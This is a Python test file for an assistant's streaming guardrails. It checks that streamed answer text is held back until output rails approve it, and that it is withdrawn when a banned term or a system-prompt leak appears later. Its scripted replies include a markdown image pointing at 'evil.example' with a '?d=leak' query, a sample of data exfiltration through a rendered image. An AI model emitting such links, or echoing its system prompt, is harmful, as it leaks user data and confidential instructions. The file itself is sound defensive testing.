"""Hold-back streaming: nothing of an answer reaches ``Events.text`` before the output rails passed it.

The unit tests drive ``HoldBack`` directly; the pipeline tests stream scripted replies through a real
policy (markdown, banned terms, system-prompt leak) and record every piece a user could have seen.
"""

from __future__ import annotations

import json
from collections.abc import Sequence

from assistant.answer_config import AnswerConfig
from assistant.events import Events
from assistant.fake_llm import ScriptedChatModel
from assistant.llm import ChatClient, RetryPolicy
from assistant.pipeline import Pipeline
from assistant.release import HoldBack
from guardrails.engine import PolicyRails
from guardrails.policy import Policy
from knowledge.models import SearchHit
from tests.fakes import rail_tools

DOC = ("The team was set up in 2016 inside the Cabinet Office. It works with more than 2,000 academics.\n\n"
       "Projects last three to six months. Each project has a sponsor.")

POLICY = """\
name: hold
version: "1"
owner: tests
output:
  - rail: markdown
    action: redact
    params: {allowed_domains: [gov.uk]}
  - rail: banned_terms
    action: block
    params: {terms: [lobby*]}
"""


class Seen(Events):
    """Everything a user-facing sink is sent, in order: ('stage', name), ('text', piece), ('retract', msg)."""

    def __init__(self) -> None:
        self.log: list[tuple[str, str | None]] = []

    def stage(self, name: str) -> None:
        self.log.append(("stage", name))

    def text(self, piece: str) -> None:
        self.log.append(("text", piece))

    def retract(self, message: str | None) -> None:
        self.log.append(("retract", message))

    @property
    def shown(self) -> str:
        """What the user is looking at now (retractions wipe what came before)."""
        out = ""
        for kind, value in self.log:
            out = out + (value or "") if kind == "text" else "" if kind == "retract" else out
        return out

    @property
    def ever_shown(self) -> str:
        return "".join(v or "" for k, v in self.log if k == "text")


def hits() -> list[SearchHit]:
    cut = DOC.index("Projects")
    return [SearchHit(source="oit.en.txt", title="Open Innovation Team", section=None, language="en", text=t,
                      start=s, end=s + len(t), page=None, rank=i, chunk_id=f"c{i}", score=0.03, similarity=0.9,
                      dense_rank=i, lexical_rank=None)
            for i, (s, t) in enumerate([(0, DOC[:cut]), (cut, DOC[cut:])], 1)]


class Searcher:
    def search(self, query: str, k: int | None = None, *, also: Sequence[str] = ()) -> list[SearchHit]:
        return hits()


def pipeline(*replies: str, strategy: str = "cite", policy: str = POLICY) -> Pipeline:
    model = ScriptedChatModel().enqueue(*replies)
    client = ChatClient(model, "scripted", RetryPolicy(retries=0), sleep=lambda s: None)
    rails = PolicyRails(Policy.from_yaml(policy), rail_tools())
    return Pipeline(Searcher(), client, rails=rails, config=AnswerConfig(strategy=strategy))  # type: ignore[arg-type]


# --- HoldBack on its own --------------------------------------------------------------------------------
def feed(hold: HoldBack, text: str, check: object = None) -> None:
    on_text = hold.streaming(check or (lambda so_far: so_far))  # type: ignore[arg-type]
    for piece in text.split(" "):
        on_text(piece + " ")


def test_text_is_released_in_whole_sentences_only_once_more_has_arrived() -> None:
    seen = Seen()
    hold = HoldBack(seen, lookahead=10)
    feed(hold, "First sentence here [1]. Second one is still being wri")
    assert seen.shown == "First sentence here [1]."
    assert hold.first_release_ms is not None
    hold.finish("First sentence here [1]. Second one is done [1].")
    assert seen.shown == "First sentence here [1]. Second one is done [1]."


def test_nothing_is_cut_inside_an_open_link_image_or_code_span() -> None:
    seen = Seen()
    hold = HoldBack(seen, lookahead=5)
    feed(hold, "See ![x. y](https://evil.example/p.png?d=a. b) and `a. b` then more text to")
    assert seen.ever_shown == ""  # the only sentence ends are inside the image and the code span


def test_a_check_that_objects_releases_nothing_and_is_asked_again_later() -> None:
    seen = Seen()
    asked: list[str] = []

    def check(so_far: str) -> str | None:
        asked.append(so_far)
        return None if "[1]" not in so_far else so_far

    hold = HoldBack(seen, lookahead=3)
    feed(hold, "No marker yet. Now one [1]. And then more words", check)
    assert len(asked) >= 2 and seen.shown == "No marker yet. Now one [1]."


def test_a_rail_that_changes_released_text_stops_releases_and_the_final_answer_replaces_it() -> None:
    seen = Seen()
    hold = HoldBack(seen, lookahead=3)
    feed(hold, "One. Two. Three four five", lambda s: s if "Two" not in s else s.replace("One", "Uno"))
    assert seen.shown == "One."
    hold.finish("Uno. Two. Three.")
    assert seen.shown == "Uno. Two. Three." and hold.retracted
    assert ("retract", None) in seen.log


def test_retract_withdraws_what_was_shown_and_says_why() -> None:
    seen = Seen()
    hold = HoldBack(seen, lookahead=3)
    assert not hold.retract("nothing to withdraw") and seen.log == []
    feed(hold, "Shown. Then some more")
    assert hold.retract("Blocked.") and seen.shown == "" and seen.log[-1] == ("retract", "Blocked.")


# --- the pipeline: what a user could ever have seen ----------------------------------------------------------
def test_a_streamed_markdown_image_never_reaches_the_user() -> None:
    reply = ("The team was set up in 2016 [1]. See ![chart](https://evil.example/p.png?d=leak) and "
             "[more](https://evil.example/x) [1]. Projects last three to six months [2].")
    seen = Seen()
    a = pipeline(reply).answer("When was the team set up?", events=seen)
    assert a.status == "answered"
    assert "evil.example" not in seen.ever_shown and "![" not in seen.ever_shown
    assert seen.shown == a.answer and "evil.example" not in a.answer
    assert seen.ever_shown.startswith("The team was set up in 2016 [1].")  # held back, not withheld
    assert ("stage", "checking_answer") in seen.log


def test_a_banned_term_later_in_the_answer_withdraws_what_was_shown() -> None:
    reply = ("The team was set up in 2016 [1]. It works with more than 2,000 academics [1]. "
             "It also helps teams lobby ministers directly [1]. Projects last three to six months [2].")
    seen = Seen()
    a = pipeline(reply).answer("When was the team set up?", events=seen)
    assert a.status == "blocked" and a.retracted
    assert "lobby" not in seen.ever_shown
    assert seen.shown == "" and seen.log[-1][0] == "retract"
    assert a.answer not in ("", reply)


def test_a_leak_of_the_system_prompt_is_never_shown_and_what_came_before_it_is_withdrawn() -> None:
    seen = Seen()
    leak = POLICY + "  - rail: system_prompt_leak\n    action: block\n"
    from assistant.prompts import SYSTEM

    reply = f"The team was set up in 2016 [1]. {SYSTEM[:200]} [1]. And that is all there is to say [1]."
    a = pipeline(reply, policy=leak).answer("When was the team set up?", events=seen)
    assert a.status == "blocked"
    assert seen.shown == "" and SYSTEM[:200] not in seen.ever_shown


def test_an_extracted_quote_is_shown_only_after_the_output_check() -> None:
    seen = Seen()
    a = pipeline(json.dumps({"answer": "three to six months"}), strategy="extract").answer(
        "How long do projects last?", events=seen)
    assert a.status == "answered"
    first_text = next(i for i, (k, _) in enumerate(seen.log) if k == "text")
    assert seen.log.index(("stage", "checking_answer")) < first_text
    assert seen.shown == a.answer
